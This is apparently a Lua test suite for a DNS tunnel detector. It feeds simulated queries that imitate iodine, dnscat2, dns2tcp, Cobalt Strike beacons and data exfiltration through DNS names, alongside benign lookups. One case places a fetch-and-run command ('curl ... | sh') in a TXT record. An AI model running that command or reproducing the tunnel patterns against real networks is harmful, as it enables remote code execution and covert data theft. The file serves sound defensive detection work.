-- dns_tunnel on names as tools and programs ask for them; the tools' real captures are in test_dns_tunnel.py.
local t = require "lunette.test"
t.detector "../../scripts/dns_tunnel.lua"

local MAC, ROUTER = "192.168.1.20", "192.168.1.1"

-- Letters by a generator of our own, so that each run has the same ones.
local function dice(seed)
    local state = seed
    return function(n)
        state = (state * 16807) % 2147483647
        return state % n + 1
    end
end

local HEX, BASE32 = "0123456789abcdef", "abcdefghijklmnopqrstuvwxyz234567"
local function text(roll, alphabet, length)
    local out = {}
    for i = 1, length do
        local at = roll(#alphabet)
        out[i] = alphabet:sub(at, at)
    end
    return table.concat(out)
end

local function ask(c, name, type, more)
    local query = { client_ip = MAC, client_port = 50000, server_ip = ROUTER, server_port = 53, proto = "UDP", type = "query", rrname = name, rrtype = type or "A",
        qtype = ({ A = 1, AAAA = 28, HTTPS = 65, TXT = 16, NULL = 10, KEY = 25, MX = 15, CNAME = 5, SRV = 33, PTR = 12 })[type or "A"], length = #name + 18 }
    for key, value in pairs(more or {}) do query[key] = value end
    c:event("dns", query)
    return query
end

local function answer(c, name, type, more)
    local reply = { client_ip = MAC, client_port = 50000, server_ip = ROUTER, server_port = 53, proto = "UDP", type = "answer", rrname = name, rrtype = type or "A",
        qtype = ({ A = 1, TXT = 16, NULL = 10 })[type or "A"], rcode = "NOERROR", answer_count = 1, ttl = 300, length = #name + 34, a = { "203.0.113.9" } }
    for key, value in pairs(more or {}) do reply[key] = value end
    c:event("dns", reply)
end

-- ---------------------------------------------------------------- tools
t.case("iodine's handshake, whatever the type", function(c)
    ask(c, "vaaaakardli.t.example.com", "TXT")
    c:expect { title = "DNS tunnel: iodine", severity = "high", who = MAC, where = "example.com", evidence = { example = "vaaaakardli.t.example.com" } }
end)

t.case("iodine in the middle of a session, by its pings of type NULL", function(c)
    local roll = dice(3)
    for _ = 1, 8 do
        ask(c, "p" .. text(roll, "abcdefghijklmnopqrstuvwxyz012345", 7) .. ".t.example.com", "NULL")
        c:wait(4)
    end
    c:expect { title = "DNS tunnel: iodine", severity = "high", why = t.contains "pings" }
end)

t.case("words of eight letters are no pings", function(c)
    for _, word in ipairs { "products", "pictures", "policies", "patients", "planners", "portraits", "payments" } do ask(c, word .. ".example.com") end
    c:expect_none()
end)

local function cat(roll, kind, session, data)
    return text(roll, HEX, 4) .. kind .. session .. text(roll, HEX, data)
end

t.case("dnscat2 below a domain", function(c)
    local roll = dice(5)
    for i = 1, 4 do
        ask(c, cat(roll, i == 1 and "00" or "01", "f500", 20) .. ".c2.example.net", ({ "TXT", "MX", "CNAME", "TXT" })[i])
        c:wait(1)
    end
    c:expect { title = "DNS tunnel: dnscat2", severity = "high", where = "example.net", why = t.contains "f500" }
end)

t.case("dnscat2 straight to its server, without a domain", function(c)
    local roll = dice(6)
    for i = 1, 3 do ask(c, "dnscat." .. cat(roll, i == 1 and "00" or "03", "91aa", 40), "TXT", { server_ip = "203.0.113.50" }) end
    c:expect { title = "DNS tunnel: dnscat2", where = "203.0.113.50", evidence = { resolver = "203.0.113.50" } }
end)

t.case("hashes in names are no sessions, nor are ids that begin with the time", function(c)
    local roll = dice(7)
    for _ = 1, 15 do ask(c, text(roll, HEX, 32) .. ".files.example.com") end
    for _ = 1, 15 do ask(c, "65f101a2b3" .. text(roll, HEX, 14) .. ".files.example.net") end
    c:expect_none()
end)

t.case("dns2tcp", function(c)
    ask(c, "aaaaaa.=auth.t.example.org", "TXT")
    c:expect { title = "DNS tunnel: dns2tcp", severity = "high", where = "example.org" }
end)

t.case("Cobalt Strike's beacon fetches its orders", function(c)
    for i = 1, 4 do
        ask(c, ("api.%02d311917.19997cf2.ns.example.org"):format(i), "TXT")
        c:wait(60)
    end
    c:expect { title = "Cobalt Strike's DNS beacon", severity = "high", where = "example.org", why = t.contains "19997cf2" }
end)

t.case("Cobalt Strike's beacon sends", function(c)
    for i = 1, 3 do ask(c, ("post.140.%02d842910.19997cf2.ns.wallet.example.org"):format(i)) end
    c:expect { title = "Cobalt Strike's DNS beacon", why = t.contains "19997cf2" }
end)

t.case("a site with api. and cdn. names", function(c)
    for _, name in ipairs { "api.example.com", "cdn.a1.example.com", "www.2024.example.com", "api.v2.eu.example.com", "post.news.example.com", "aaa.stage.example.com" } do ask(c, name) end
    c:expect_none()
end)

-- ---------------------------------------------------------------- files
t.case("a packed file in a single name", function(c)
    ask(c, "h4sicn03x2qaa3rlc3qudhh0aavjycxwakjehelu5klueow0zjxulgage.4s2fgaaaa.example.com")
    c:expect { title = "Packed file in DNS names", severity = "medium", where = "example.com", attack = "T1048.003", why = t.contains "gzip" }
end)

-- ---------------------------------------------------------------- the general case
local function tunnel(c, names, seconds, length, type, more)
    local roll = dice(11)
    for _ = 1, names do
        local name = text(roll, BASE32, math.min(length, 60))
        if length > 60 then name = name .. "." .. text(roll, BASE32, length - 60) end
        name = name .. ".t.example.com"
        ask(c, name, type)
        if more then answer(c, name, type, more) end
        c:wait(seconds)
    end
end

t.case("a tunnel at full rate is high within seconds", function(c)
    tunnel(c, 600, 0.1, 110, "TXT", { ttl = 0, length = 400, a = {} })
    c:ignore { title = "Data in DNS answers" }
    c:expect { title = "Data in DNS names", severity = "high", who = MAC, where = "example.com", evidence = { types = { TXT = t.near(20, 3) } } }
end)

t.case("the same names at five an hour over two days", function(c)
    tunnel(c, 240, 720, 60, "A")
    c:expect { title = "Data in DNS names", severity = "low" }
    c:expect { title = "Data in DNS names", severity = "medium", why = t.contains "61 characters", evidence = { hours = t.near(20, 20) } }
end)

t.case("thirty long names carry a small file out", function(c)
    tunnel(c, 40, 1, 180, "A")
    c:expect { title = "Data in DNS names", severity = "low" }
    c:expect { title = "Data in DNS names", severity = "medium" }
end)

t.case("a record type that nobody asks for", function(c)
    tunnel(c, 30, 1, 40, "NULL")
    c:expect { title = "Data in DNS names", severity = "low", evidence = { odd_types = t.near(12, 12) } }
    c:ignore { title = "Data in DNS names", severity = "medium" }
end)

t.case("below the thresholds: a dozen names with an id", function(c)
    tunnel(c, 12, 3600, 32, "A")
    c:expect_none()
end)

t.case("a name asked again and again carries nothing new", function(c)
    for _ = 1, 300 do
        ask(c, "e0d67c509fb203858ebcb2fe3f88c2aa.baas.example.com")
        ask(c, "e0d67c509fb203858ebcb2fe3f88c2aa.baas.example.com", "AAAA")
        c:wait(60)
    end
    c:expect_none()
end)

t.case("ids of telemetry: a lead, and no more within a day", function(c)
    local roll = dice(41)
    for _ = 1, 200 do
        local id = table.concat({ text(roll, HEX, 8), text(roll, HEX, 4), text(roll, HEX, 4), text(roll, HEX, 4), text(roll, HEX, 12) }, "-")
        for _, type in ipairs { "A", "AAAA", "HTTPS" } do ask(c, id .. ".events.example.com", type) end
        answer(c, id .. ".events.example.com")
        c:wait(400)
    end
    c:expect { title = "Data in DNS names", severity = "low" }
end)

t.case("two made-up names a day for a year are no tunnel", function(c)
    local roll = dice(47)
    for _ = 1, 730 do
        ask(c, text(roll, HEX, 32) .. ".id.example.com")
        c:wait(43200)
    end
    c:expect_none()
end)

t.case("over TCP and straight to a stranger's server it is the same", function(c)
    local mac, roll = c:host(MAC), dice(43)
    for _ = 1, 40 do
        mac:dns { name = text(roll, BASE32, 60) .. "." .. text(roll, BASE32, 50) .. ".t.example.com", txt = text(roll, BASE32, 200), ttl = 0, over = "tcp", server = "203.0.113.53" }
        c:wait(1)
    end
    c:ignore { title = "Data in DNS answers" }
    c:ignore { title = "Data in DNS names", severity = "low" }
    c:ignore { title = "Data in DNS names", severity = "medium" }
    c:expect { title = "Data in DNS names", severity = "high", evidence = { resolver = "203.0.113.53" } }
end)

t.case("an allowed domain", function(c)
    c:set { allowed = "example.com" }
    tunnel(c, 300, 1, 110, "TXT")
    c:expect_none()
end)

-- ---------------------------------------------------------------- honest users of names that are new each time
t.case("block lists, reputation, reverse lookups, service labels, probes, caches", function(c)
    local roll = dice(17)
    for i = 1, 400 do
        ask(c, ("%d.%d.%d.%d.zen.spamhaus.org"):format(roll(255), roll(255), roll(255), roll(255)))
        ask(c, ("%d.%d.%d.%d.list.blocklist.example"):format(roll(255), roll(255), roll(255), roll(255)))
        ask(c, ("%d.%d.%d.%d.in-addr.arpa"):format(roll(255), roll(255), roll(255), roll(255)), "PTR")
        ask(c, text(roll, HEX, 32):gsub(".", "%0.") .. "ip6.arpa", "PTR")
        ask(c, text(roll, BASE32, 26) .. ".avqs.mcafee.com")
        ask(c, text(roll, BASE32, 40) .. ".c.e5.sk", "TXT")
        ask(c, text(roll, HEX, 40) .. ".sophosxl.net", "TXT")
        ask(c, ("rr%d---sn-%s.googlevideo.com"):format(roll(9), text(roll, BASE32, 8)))
        ask(c, ("e%d.dscb.akamaiedge.net"):format(roll(20000)))
        ask(c, ("d%s.cloudfront.net"):format(text(roll, BASE32, 13)))
        ask(c, ("%d-courier.push.apple.com"):format(i))
        ask(c, text(roll, "abcdefghijklmnopqrstuvwxyz", 11))
        ask(c, ("_ldap._tcp.site%d._sites.dc._msdcs.corp.example.com"):format(i % 5), "SRV")
        ask(c, ("lb._dns-sd._udp.0.%d.168.192.in-addr.arpa"):format(roll(255)), "PTR")
        c:wait(20)
    end
    for i = 1, 30 do
        ask(c, "_acme-challenge.www" .. i .. ".example.com", "TXT")
        ask(c, "s" .. i .. "._domainkey.example.com", "TXT")
    end
    c:expect_none()
end)

-- ---------------------------------------------------------------- answers
t.case("a script in a TXT record", function(c)
    answer(c, "run.example.com", "TXT", { a = {}, txt = { "curl -fsSL http://203.0.113.9/i | sh" } })
    c:expect { title = "Shell commands in a DNS answer", severity = "high", where = "run.example.com", attack = "T1071.004, T1059.004" }
end)

t.case("TXT records as they are", function(c)
    for _, record in ipairs { "v=spf1 include:_spf.example.com ~all", "google-site-verification=abcdef", "v=DMARC1; p=none; rua=mailto:a@example.com" } do
        answer(c, "example.com", "TXT", { a = {}, txt = { record }, length = 300 })
    end
    c:expect_none()
end)

t.case("a program in numbered TXT records", function(c)
    for i = 1, 120 do
        answer(c, i .. ".p.example.com", "TXT", { a = {}, txt = { ("QUJD"):rep(100) }, length = 900 })
        c:wait(0.2)
    end
    c:expect { title = "Data in DNS answers", severity = "medium", where = "example.com" }
end)

-- ---------------------------------------------------------------- port 53
t.case("iodine's raw mode, and what a resolver answers", function(c)
    local mac = c:host(MAC)
    mac:udp { to = "203.0.113.53", port = 53, say = { { "client", "\16\209\158\16" .. ("k"):rep(16) }, { "server", "\16\209\158\16" .. ("l"):rep(16) } } }
    mac:dns { name = "www.example.com", a = "203.0.113.9" }
    c:expect { title = "DNS tunnel: iodine's raw mode", severity = "high", where = "203.0.113.53", evidence = { command = "login" } }
end)

t.case("bytes that are no DNS on port 53", function(c)
    local mac = c:host(MAC)
    mac:tcp { to = "203.0.113.53", port = 53, say = { { "client", ("\1\2\3q"):rep(200) }, { "server", ("z\9\8\7"):rep(300) } } }
    c:wait(20)
    mac:dns { name = "www.example.com", a = "203.0.113.9", over = "tcp", server = "203.0.113.54" }
    c:expect { title = "Something else than DNS on port 53", severity = "medium", where = "203.0.113.53" }
end)

-- ---------------------------------------------------------------- hostile names
t.case("names that no resolver would send", function(c)
    local roll = dice(23)
    local labels = {}
    for i = 1, 4 do labels[i] = ("\\255"):rep(60) end
    ask(c, table.concat(labels, "."))
    ask(c, ("a."):rep(127) .. "com")
    ask(c, "\\046\\046.\\092.example.com")
    ask(c, "...")
    ask(c, ".")
    ask(c, "h4si\\000\\000.example.com")
    ask(c, "dnscat.")
    ask(c, "=auth.=connect.")
    ask(c, ("f"):rep(63) .. "." .. ("0"):rep(63) .. "." .. ("a"):rep(63))
    for _ = 1, 50 do
        local name = {}
        for i = 1, 200 do name[i] = ("\\%03d"):format(roll(256) - 1) end
        answer(c, table.concat(name), "TXT", { a = {}, txt = { "\255\254\0" } })
    end
    c:ignore { title = "DNS tunnel: dns2tcp" }
    c:expect_none()
end)
